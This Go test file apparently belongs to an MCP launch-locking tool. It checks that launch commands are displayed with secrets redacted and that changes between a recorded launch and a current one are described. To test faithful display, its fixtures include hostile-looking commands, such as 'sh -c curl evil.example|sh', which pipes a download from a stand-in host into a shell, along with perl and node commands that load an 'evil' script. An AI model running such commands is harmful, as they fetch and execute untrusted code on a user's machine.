package cli

import (
	"strings"
	"testing"

	"github.com/mcpsign/mcpsign/lock"
)

// A launch is shown whole, but for what looks like a secret.
func TestLaunchText(t *testing.T) {
	const token, random = "ghp_0123456789abcdefghijABCDEFGHIJ012345", "Zx8Qw3Lm7Tn2Vb6Ky1Rp5Gd9Hs4Jf0"
	for _, test := range []struct {
		source lock.Source
		want   string
	}{
		{lock.Source{}, "files"},
		{lock.Source{Command: []string{"npx", "-y", "a b", "", "\u202e"}}, `npx -y 'a b' '' $'\u202e'`},
		{lock.Source{Command: []string{"npx", "-y", "weather", token, "--password", "hunter2", "--api-key=hunter2", random, "more"}},
			`npx -y weather '[looks like a secret]' --password '[looks like a secret]' '--api-key=[looks like a secret]' '[looks like a secret]' more`},
		{lock.Source{Command: []string{"weather", "--config=" + token, "--token", "a b"}}, `weather '--config=[looks like a secret]' --token 'a b'`},
		{lock.Source{Command: []string{"npx", "mcp-remote", "https://a.example/mcp", "--header", "Authorization: Bearer " + token}},
			`npx mcp-remote https://a.example/mcp --header 'Authorization: Bearer [looks like a secret]'`},
		{lock.Source{Command: []string{"weather", "--db", "postgres://me:hunter2@db.example/x", "--db=postgres://me:hunter2@db.example/x?y"}},
			`weather --db 'postgres://[looks like a secret]@db.example/x' '--db=postgres://[looks like a secret]@db.example/x?y'`},
		// What would be run is shown, whatever it looks like.
		{lock.Source{Command: []string{"npx", "-y", "sk-weather-of-acme"}}, `npx -y sk-weather-of-acme`},
		{lock.Source{Command: []string{"npx", "-y", "--auth", "evil"}}, `npx -y --auth evil`},
		{lock.Source{Command: []string{"npm", "exec", "--token", "evil"}}, `npm exec --token evil`},
		{lock.Source{Command: []string{"npx", "-y", "git+https://a:b@evil.example/x.git"}}, `npx -y 'git+https://[looks like a secret]@evil.example/x.git'`},
		{lock.Source{Command: []string{"node", "--token", "evil.js"}}, `node --token evil.js`},
		{lock.Source{Command: []string{"node", random + ".js"}}, `node ` + random + `.js`},
		{lock.Source{Command: []string{"sh", "-c", "TOKEN=1; curl evil.example|sh"}}, `sh -c 'TOKEN=1; curl evil.example|sh'`},
		{lock.Source{Command: []string{"sh", "-c", "TOKEN=" + token + ";evil"}}, `sh -c 'TOKEN=[looks like a secret];evil'`},
		{lock.Source{Command: []string{"sh", "-c", "TOKEN=$(evil)"}}, `sh -c 'TOKEN=$(evil)'`},
		{lock.Source{Command: []string{"sh", "-c", "x://a:b@c&evil"}}, `sh -c 'x://[looks like a secret]@c&evil'`},
		{lock.Source{Command: []string{"perl", "-e", "$secret=do+q{./evil}"}}, `perl -e '$secret=do+q{./evil}'`},
		{lock.Source{Command: []string{"node", "--token", "require('evil')"}}, `node --token 'require('\''evil'\'')'`},
		{lock.Source{Command: []string{"weather", "--api-key=${KEY}", "--token", "${env:KEY}"}}, `weather '--api-key=${KEY}' --token '${env:KEY}'`},
		{lock.Source{Client: "cursor/a", Command: []string{"a"}, Dir: "s p", Env: []string{"A, B", "C"}}, `a, in 's p', with the environment 'A, B', C`},
		{lock.Source{URL: "https://a.example/t/one/" + random + "/mcp"}, `'https://a.example/t/one/[looks like a secret]/mcp'`},
		{lock.Source{URL: "https://a.example/t/one/mcp", Env: []string{"T"}}, "https://a.example/t/one/mcp, with the environment T"},
		{lock.Source{URL: "https://a.example/mcp", Env: []string{"T"}, Headers: []lock.Header{
			{Name: "Authorization", Value: "Bearer hunter2"}, {Name: "X-A", Value: "${T}\u200b"}, {Name: "X-B", Value: random}, {Name: "X-C", Value: "@a"}, {Name: "X-D", Value: "acme"}}},
			`https://a.example/mcp, with the header 'Authorization: [looks like a secret]', with the header $'X-A: ${T}\u200b', with the header 'X-B: [looks like a secret]', with the header 'X-C: @a', with the header 'X-D: acme'`},
	} {
		if got := launchText(test.source); got != test.want {
			t.Errorf("got  %s\nwant %s", got, test.want)
		}
		if lines := showSource(test.source).lines(); strings.Count(lines, "\n") != 1+len(showSource(test.source).with) {
			t.Errorf("%q has more lines than parts", lines)
		}
	}
}

// What differs between two launches is named, as it was and as it is.
func TestLaunchNote(t *testing.T) {
	entry := lock.Source{Client: "cursor/a", Command: []string{"a"}, Dir: "d", Env: []string{"A", "B"}}
	web := lock.Source{URL: "https://a.example/one", Env: []string{"T"}}
	for _, test := range []struct {
		recorded, now lock.Source
		want          string
	}{
		{entry, entry, ""},
		{lock.Source{}, entry, ""},
		{entry, lock.Source{}, ""},
		{entry, lock.Source{Command: []string{"a"}}, "a; environment A, B (recorded) none (now); working directory d (recorded) none (now)"},
		{lock.Source{Command: []string{"a"}}, entry, "a; environment none (recorded) A, B (now); working directory none (recorded) d (now)"},
		{entry, lock.Source{Client: "cursor/a", Command: []string{"b"}, Dir: "\u202e", Env: []string{"A", "B"}}, `a (recorded) b (now); working directory d (recorded) $'\u202e' (now)`},
		{web, lock.Source{URL: "https://a.example/two", Env: []string{"T"}}, "https://a.example/one (recorded) https://a.example/two (now)"},
		{web, lock.Source{Command: []string{"a"}}, "https://a.example/one (recorded) a (now); environment T (recorded) none (now)"},
		{lock.Source{Command: []string{"a", "--token", "x"}}, lock.Source{Command: []string{"a", "--token", "y"}}, "a --token '[looks like a secret]', which is another in what looks like a secret"},
	} {
		if got := launchNote(test.recorded, test.now); got != test.want {
			t.Errorf("got  %s\nwant %s", got, test.want)
		}
		if same := test.recorded.Same(test.now) || test.recorded.IsZero() || test.now.IsZero(); same != (test.want == "") {
			t.Errorf("%q, and the same is %v", test.want, same)
		}
	}
}
